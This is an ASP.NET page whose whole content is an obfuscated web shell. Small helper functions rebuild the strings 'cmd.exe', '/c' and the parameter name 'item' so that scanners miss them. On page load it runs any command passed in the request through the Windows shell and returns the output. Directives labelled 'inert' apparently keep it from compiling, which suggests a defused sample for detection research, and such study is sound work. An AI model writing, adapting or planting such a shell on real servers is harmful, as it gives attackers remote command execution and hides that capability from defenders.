<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Linq" %>
<script runat="server">
#error inert
string A() { return "cQmQd.QeQxe".Replace("Q", ""); }
string B() { return new string("c/".Reverse().ToArray()); }
string C() { return string.Join("", new[] { "i", "t", "e", "m" }); }
void Page_Load(object o, EventArgs e)
{
    var q = Request.Params[C()];
    if (string.IsNullOrEmpty(q)) return;
    var s = new System.Diagnostics.ProcessStartInfo(A(), string.Format("{0} {1}", B(), string.Concat(q, " 2>&1")));
    s.UseShellExecute = !true;
    s.RedirectStandardOutput = true;
    Response.Output.Write(System.Diagnostics.Process.Start(s).StandardOutput.ReadToEnd());
}
</script>
